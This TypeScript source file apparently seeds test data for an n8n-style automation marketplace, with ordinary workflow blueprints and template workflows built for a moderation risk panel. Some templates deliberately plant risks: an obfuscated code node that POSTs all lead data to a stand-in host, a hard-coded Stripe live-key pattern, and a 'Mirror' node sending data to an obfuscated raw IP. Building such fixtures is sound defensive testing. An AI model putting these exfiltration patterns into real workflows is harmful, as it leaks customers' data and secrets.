import type { Rng } from '../prng'
import type { Language } from './companies'

export interface WorkflowNode {
  name: string
  type: string
}

export interface WorkflowBlueprint {
  name: Record<Language, string>
  description: Record<Language, string>
  tags: readonly string[]
  nodes: readonly WorkflowNode[]
  trigger: 'webhook' | 'schedule' | 'manual'
}

const N = {
  webhook: { name: 'Webhook', type: 'n8n-nodes-base.webhook' },
  whatsappTrigger: { name: 'WhatsApp Trigger', type: 'n8n-nodes-base.whatsAppTrigger' },
  schedule: { name: 'Schedule Trigger', type: 'n8n-nodes-base.scheduleTrigger' },
  openai: { name: 'OpenAI', type: '@n8n/n8n-nodes-langchain.openAi' },
  agent: { name: 'AI Agent', type: '@n8n/n8n-nodes-langchain.agent' },
  whatsapp: { name: 'WhatsApp Cloud API', type: 'n8n-nodes-base.whatsApp' },
  sheets: { name: 'Google Sheets', type: 'n8n-nodes-base.googleSheets' },
  calendar: { name: 'Google Calendar', type: 'n8n-nodes-base.googleCalendar' },
  gmail: { name: 'Gmail', type: 'n8n-nodes-base.gmail' },
  http: { name: 'HTTP Request', type: 'n8n-nodes-base.httpRequest' },
  hubspot: { name: 'HubSpot', type: 'n8n-nodes-base.hubspot' },
  stripe: { name: 'Stripe', type: 'n8n-nodes-base.stripe' },
  postgres: { name: 'Postgres', type: 'n8n-nodes-base.postgres' },
  slack: { name: 'Slack', type: 'n8n-nodes-base.slack' },
  ifNode: { name: 'IF', type: 'n8n-nodes-base.if' },
  set: { name: 'Set', type: 'n8n-nodes-base.set' }
} satisfies Record<string, WorkflowNode>

export const WORKFLOW_BLUEPRINTS: readonly WorkflowBlueprint[] = [
  {
    name: { es: 'Respuesta automática WhatsApp', en: 'WhatsApp auto-reply' },
    description: { es: 'Responde mensajes de WhatsApp con el agente IA y deriva a humano si la confianza es baja', en: 'Answers WhatsApp messages with the AI agent and hands over to a human on low confidence' },
    tags: ['whatsapp', 'ai'],
    nodes: [N.whatsappTrigger, N.agent, N.ifNode, N.whatsapp],
    trigger: 'webhook'
  },
  {
    name: { es: 'Reserva de citas en Google Calendar', en: 'Appointment booking to Google Calendar' },
    description: { es: 'Crea la cita en el calendario y envía confirmación', en: 'Creates the appointment in the calendar and sends a confirmation' },
    tags: ['calendar', 'booking'],
    nodes: [N.webhook, N.openai, N.calendar, N.gmail],
    trigger: 'webhook'
  },
  {
    name: { es: 'Registro de leads en Google Sheets', en: 'Lead capture to Google Sheets' },
    description: { es: 'Guarda cada lead del chat web en una hoja compartida', en: 'Stores every web chat lead in a shared sheet' },
    tags: ['leads', 'sheets'],
    nodes: [N.webhook, N.set, N.sheets],
    trigger: 'webhook'
  },
  {
    name: { es: 'Sincronización de contactos con HubSpot', en: 'HubSpot contact sync' },
    description: { es: 'Crea o actualiza contactos en HubSpot tras cada conversación', en: 'Creates or updates HubSpot contacts after each conversation' },
    tags: ['crm'],
    nodes: [N.webhook, N.hubspot, N.slack],
    trigger: 'webhook'
  },
  {
    name: { es: 'Informe diario de conversaciones', en: 'Daily conversation report' },
    description: { es: 'Resume las conversaciones del día y lo envía por correo', en: 'Summarises the day’s conversations and emails the summary' },
    tags: ['reporting', 'ai'],
    nodes: [N.schedule, N.postgres, N.openai, N.gmail],
    trigger: 'schedule'
  },
  {
    name: { es: 'Cobro de señal con Stripe', en: 'Deposit collection with Stripe' },
    description: { es: 'Genera un enlace de pago de Stripe para la señal de la reserva', en: 'Creates a Stripe payment link for the booking deposit' },
    tags: ['payments'],
    nodes: [N.webhook, N.stripe, N.whatsapp],
    trigger: 'webhook'
  },
  {
    name: { es: 'Consulta de pedidos por API', en: 'Order status lookup via API' },
    description: { es: 'Consulta el estado del pedido en el ERP y responde al cliente', en: 'Looks up the order in the ERP and replies to the customer' },
    tags: ['orders', 'api'],
    nodes: [N.webhook, N.http, N.agent, N.whatsapp],
    trigger: 'webhook'
  },
  {
    name: { es: 'Recordatorio de citas', en: 'Appointment reminders' },
    description: { es: 'Envía un recordatorio por WhatsApp 24 h antes de cada cita', en: 'Sends a WhatsApp reminder 24 h before each appointment' },
    tags: ['reminders', 'whatsapp'],
    nodes: [N.schedule, N.calendar, N.whatsapp],
    trigger: 'schedule'
  }
]

/** The n8n-style definition stored in workflows.definition: nodes plus a linear chain of connections. */
export function workflowDefinition(blueprint: WorkflowBlueprint, rng: Rng): object {
  const nodes = blueprint.nodes.map((node, i) => ({
    id: rng.uuid(),
    name: node.name,
    type: node.type,
    typeVersion: 1,
    position: [240 + i * 220, 300],
    parameters: {}
  }))
  const connections: Record<string, object> = {}
  for (let i = 0; i + 1 < nodes.length; i++) {
    connections[nodes[i]!.name] = { main: [[{ node: nodes[i + 1]!.name, type: 'main', index: 0 }]] }
  }
  return { nodes, connections, settings: { executionOrder: 'v1', timezone: 'Europe/Madrid' } }
}

/**
 * What a marketplace template's workflow does, for the moderation queue: most are ordinary
 * integrations; some carry what the risk panel must catch (a code node posting data out, a
 * hard-coded live key, many outbound hosts), and one is very large.
 */
export type TemplateFlavour = 'integration' | 'code_fetch' | 'planted_key' | 'many_hosts' | 'giant'

interface DraftNode {
  name: string
  type: string
  parameters?: Record<string, unknown>
  credentials?: Record<string, { id: string; name: string }>
}

/** Lays nodes out left to right (rows of 12) and links each listed pair, as an n8n export has it. */
function n8nExport(name: string, drafts: readonly DraftNode[], links: readonly [number, number][], rng: Rng): object {
  const nodes = drafts.map((d, i) => ({
    parameters: d.parameters ?? {},
    id: rng.uuid(),
    name: d.name,
    type: d.type,
    typeVersion: 1,
    position: [240 + (i % 12) * 220, 300 + Math.floor(i / 12) * 180],
    ...(d.credentials ? { credentials: d.credentials } : {})
  }))
  const connections: Record<string, { main: { node: string; type: 'main'; index: number }[][] }> = {}
  for (const [from, to] of links) {
    const entry = (connections[nodes[from]!.name] ??= { main: [[]] })
    entry.main[0]!.push({ node: nodes[to]!.name, type: 'main', index: 0 })
  }
  return { name, nodes, connections, settings: { executionOrder: 'v1' }, pinData: {} }
}

const chain = (count: number): [number, number][] => Array.from({ length: Math.max(0, count - 1) }, (_, i) => [i, i + 1])

const credential = (rng: Rng, type: string, name: string) => ({ [type]: { id: String(rng.int(1, 999)), name } })

function httpNode(name: string, method: string, url: string, extra: Record<string, unknown> = {}): DraftNode {
  return { name, type: 'n8n-nodes-base.httpRequest', parameters: { method, url, options: {}, ...extra } }
}

/** `size` only counts for 'giant' (nodes in the workflow). */
export function templateWorkflow(flavour: TemplateFlavour, name: string, rng: Rng, size = 300): object {
  switch (flavour) {
    case 'integration':
      return n8nExport(name, [
        { name: 'Schedule Trigger', type: 'n8n-nodes-base.scheduleTrigger', parameters: { rule: { interval: [{ field: 'hours', hoursInterval: 1 }] } } },
        httpNode('Fetch contacts', 'GET', 'https://api.hubapi.com/crm/v3/objects/contacts', { authentication: 'predefinedCredentialType', nodeCredentialType: 'hubspotApi' }),
        { name: 'Keep new leads', type: 'n8n-nodes-base.filter', parameters: { conditions: { string: [{ value1: '={{ $json.properties.lifecyclestage }}', value2: 'lead' }] } } },
        { name: 'Notify sales', type: 'n8n-nodes-base.slack', parameters: { channel: '#sales', text: '=New lead: {{ $json.properties.email }}' }, credentials: credential(rng, 'slackApi', 'Sales Slack') }
      ], chain(4), rng)
    case 'code_fetch':
      return n8nExport(name, [
        { name: 'Webhook', type: 'n8n-nodes-base.webhook', parameters: { httpMethod: 'POST', path: rng.uuid(), responseMode: 'lastNode' } },
        {
          name: 'Enrich lead',
          type: 'n8n-nodes-base.code',
          parameters: {
            jsCode: [
              "// Adds company data to the lead",
              "const endpoint = ['https:/', '', 'lead-insights' + '.example', 'v2', 'enrich'].join('/');",
              'const leads = $input.all().map((item) => item.json);',
              "const res = await fetch(endpoint, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(leads) });",
              'return (await res.json()).map((json) => ({ json }));'
            ].join('\n')
          }
        },
        { name: 'Respond', type: 'n8n-nodes-base.respondToWebhook', parameters: { respondWith: 'allIncomingItems' } }
      ], chain(3), rng)
    case 'planted_key':
      return n8nExport(name, [
        { name: 'Stripe Trigger', type: 'n8n-nodes-base.stripeTrigger', parameters: { events: ['invoice.paid'] }, credentials: credential(rng, 'stripeApi', 'Stripe') },
        httpNode('Create customer', 'POST', 'https://api.stripe.com/v1/customers', {
          sendHeaders: true,
          // Planted: the creator pasted a live key instead of using a credential.
          headerParameters: { parameters: [{ name: 'Authorization', value: `Bearer sk_live_51${rng.hex(12)}` }] }
        }),
        httpNode('Post receipt', 'POST', 'https://hooks.slack.com/services/T000/B000/XXXX', { sendBody: true })
      ], chain(3), rng)
    case 'many_hosts':
      return n8nExport(name, [
        { name: 'WhatsApp Trigger', type: 'n8n-nodes-base.whatsAppTrigger', parameters: { updates: ['messages'] }, credentials: credential(rng, 'whatsAppTriggerApi', 'WhatsApp') },
        httpNode('Classify', 'POST', 'https://api.openai.com/v1/chat/completions', { authentication: 'predefinedCredentialType', nodeCredentialType: 'openAiApi' }),
        httpNode('Log to sheet', 'POST', 'https://sheets.googleapis.com/v4/spreadsheets/1abc/values/A1:append'),
        httpNode('Mirror', 'POST', "={{ 'http://' + '203.0.113.' + '9' + ':8080/mirror' }}"),
        httpNode('Callback', 'POST', '={{ $json.callbackUrl }}')
      ], [[0, 1], [1, 2], [1, 3], [1, 4]], rng)
    case 'giant': {
      // A long pipeline of blocks (set → IF → HTTP), with a fan-out hub every 50 nodes.
      const drafts: DraftNode[] = [{ name: 'Webhook', type: 'n8n-nodes-base.webhook', parameters: { httpMethod: 'POST', path: 'bulk-import' } }]
      const links: [number, number][] = []
      const hosts = ['api.hubapi.com', 'api.pipedrive.com', 'graph.microsoft.com', 'api.mailchimp.com']
      for (let i = 1; i < size; i++) {
        const kind = i % 3
        drafts.push(
          kind === 0 ? httpNode(`Call ${i}`, 'POST', `https://${hosts[i % hosts.length]}/v1/items/${i}`)
            : kind === 1 ? { name: `Map ${i}`, type: 'n8n-nodes-base.set', parameters: { values: { string: [{ name: `field${i}`, value: `={{ $json.f${i} }}` }] } } }
            : { name: `Check ${i}`, type: 'n8n-nodes-base.if', parameters: { conditions: { number: [{ value1: `={{ $json.n${i} }}`, operation: 'larger', value2: i }] } } }
        )
        links.push([i - 1, i])
      }
      for (let hub = 50; hub + 12 < size; hub += 50) for (let k = 2; k <= 12; k++) links.push([hub, hub + k])
      return n8nExport(name, drafts, links, rng)
    }
  }
}

/**
 * A resubmission: the creator answered the rejection (the planted key becomes a credential)
 * and, as creators do, changed something else too (a new node, a new host).
 */
export function reviseWorkflow(definition: object, rng: Rng): object {
  const copy = JSON.parse(JSON.stringify(definition)) as { nodes: { id: string; name: string; type: string; parameters: Record<string, unknown>; credentials?: object; position: number[] }[]; connections: Record<string, unknown> }
  for (const node of copy.nodes) {
    if ('headerParameters' in node.parameters) {
      delete node.parameters.headerParameters
      node.parameters.authentication = 'predefinedCredentialType'
      node.credentials = credential(rng, 'stripeApi', 'Stripe')
    }
  }
  const last = copy.nodes[copy.nodes.length - 1]!
  copy.nodes.push({ id: rng.uuid(), name: 'Audit copy', type: 'n8n-nodes-base.httpRequest', position: [last.position[0]! + 220, last.position[1]!], parameters: { method: 'POST', url: 'https://audit-log.example/ingest', options: {} } })
  copy.connections[last.name] = { main: [[{ node: 'Audit copy', type: 'main', index: 0 }]] }
  return copy
}
